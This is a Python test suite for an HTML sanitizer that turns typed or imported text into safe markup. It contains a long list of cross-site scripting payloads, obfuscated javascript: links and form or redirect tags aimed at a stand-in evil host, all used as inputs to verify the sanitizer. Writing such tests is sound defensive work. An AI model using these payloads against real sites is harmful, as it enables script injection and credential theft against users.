"""Words to HTML: whatever is typed or imported, only harmless tags come out, and always the same."""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import strategies as st
from samples import law

from weighin import markup

Render = Callable[[str], str]
COMMENTS: list[Render] = [markup.comment, markup.imported_html, markup.imported_wordpress]
EVERY = [*COMMENTS, markup.story]

# What may stand in the output, written down here a second time: the tests do not ask the code what it allows.
TAGS = {"p", "br", "em", "strong", "s", "blockquote", "pre", "code", "ul", "ol", "li", "a", "hr"}
STORY_TAGS = TAGS | {"h2", "h3", "h4", "img", "figure", "figcaption", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}
PICTURE = {("img", name) for name in ("src", "alt", "title", "width", "height")}
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*(?=:)")


class Reader(HTMLParser):
    """Reads HTML as a browser would and keeps its tags with their attributes, and its words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.strange: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.strange.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def scheme(address: str) -> str:
    """What a browser takes for the scheme of an address, which may lack one."""
    found = SCHEME.match(re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(0x21))))).lower())
    return found[0] if found else ""


def assert_harmless(html: str, render: Render) -> None:
    reader = Reader(html)
    ours, rel = render is markup.story, "noopener" if render is markup.story else "nofollow ugc noopener"
    assert reader.strange == []
    for tag, attributes in reader.tags:
        assert tag in (STORY_TAGS if ours else TAGS)
        for name, value in attributes.items():
            assert (tag, name) in (ATTRIBUTES | PICTURE if ours else ATTRIBUTES)
            assert name not in {"href", "src"} or scheme(value) in {"", "http", "https", "mailto"}
        assert tag != "a" or attributes.get("rel") == rel


PIECES = [
    *"*_`~>#-+=|!\\\"'&;:/()[]<>{} \t\n1a",
    "\n\n",
    "```",
    "    ",
    "](",
    "![",
    "javascript:alert(1)",
    "JAVASCRIPT&colon;alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "https://a.example/",
    "http://",
    "mailto:a@b.example",
    "//evil.example",
    "<a href=",
    "<img src=x onerror=alert(1)>",
    "<script>",
    "</script>",
    "<svg onload=alert(1)>",
    "<!--",
    "-->",
    "<![CDATA[",
    "<pre>",
    "</pre>",
    "<blockquote>",
    "<table><tr>",
    "<style>",
    "<math>",
    "&#106;",
    "&lt;",
    "\0",
    "\u202e",
    "ä",
]
Typed = st.lists(st.sampled_from(PIECES), max_size=25).map("".join) | st.text(max_size=60)


@pytest.mark.parametrize("render", EVERY)
@law(text=Typed)
def test_nothing_but_allowed_tags_attributes_and_addresses_comes_out(render: Render, text: str) -> None:
    html = render(text)
    assert_harmless(html, render)
    assert render(text) == html


@law(Typed)
def test_html_made_here_passes_unchanged_when_it_is_imported(text: str) -> None:
    html = markup.comment(text)
    assert markup.imported_html(html) == html


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='https://a.example' onclick='alert(1)' style='position:fixed' target=_top rel=opener>x</a>",
    "<p onmouseover=alert(1) style='background:url(javascript:alert(1))' id=x class=y>x</p>",
    "<form action='//evil.example'><input name=password><button formaction='//evil.example'>x</button></form>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=x>",
    "<style>@import '//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><script>alert(1)</script>",
    "<pre><code></pre><script>alert(1)</script>",
    "<a title='</a><script>alert(1)</script>' href='https://a.example'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://a.example/x.png"onerror="alert(1))',
    "[x](https://a.example 'onclick=alert(1)')",
    '[x](https://a.example "\'><script>alert(1)</script>")',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "[x][1]\n\n[1]: javascript:alert(1)",
]


@pytest.mark.parametrize("render", EVERY)
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_words_or_not_at_all(attack: str, render: Render) -> None:
    assert_harmless(render(attack), render)


def test_a_link_that_leads_nowhere_by_itself_is_words() -> None:
    for address in ("//evil.example", "/c/1", "page.html", "?a=b", "#c1", "www.example.org", "ftp://x.example/y"):
        assert markup.comment(f"[d]({address})") == f"<p>[d]({address})</p>"
        for render in (markup.imported_html, markup.imported_wordpress):
            assert (
                render(f'<p>See <a href="{address}" title="a > b">d <em>e</em></a>.</p>') == "<p>See d <em>e</em>.</p>"
            )
    hidden = '<a title="<script>alert(1)</script> href=x">d</a> <a href="https://x.example" title="y>z">e</a>'
    for render in (markup.imported_html, markup.imported_wordpress):
        assert Reader(render(f"<p>{hidden}</p>")).tags[1:] == [
            ("a", {"href": "https://x.example", "title": "y>z", "rel": "nofollow ugc noopener"})
        ]
    assert 'href="HTTPS://x.example"' in markup.comment("[d](HTTPS://x.example)")


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<blockquote><p>The tide took it</p></blockquote><p>Against the wind?</p>", "Against the wind?"),
        ("<p>So you say:</p><blockquote><p>It sank</p></blockquote><p>It did not</p>", "So you say: It did not"),
        ("<blockquote><p>It sank</p><blockquote><p>It burned</p></blockquote></blockquote><p>No</p>", "No"),
        ("<blockquote><p>The <em>tide</em> took it</p></blockquote>", "The tide took it"),
        ("<p>My own &lt;words&gt;</p><blockquote><p>It sank, as all of us have se", "My own <words>"),
        ("", ""),
    ],
)
def test_an_excerpt_has_its_writers_own_words_if_there_are_any(html: str, words: str) -> None:
    assert " ".join(markup.excerpt(html).split()) == words
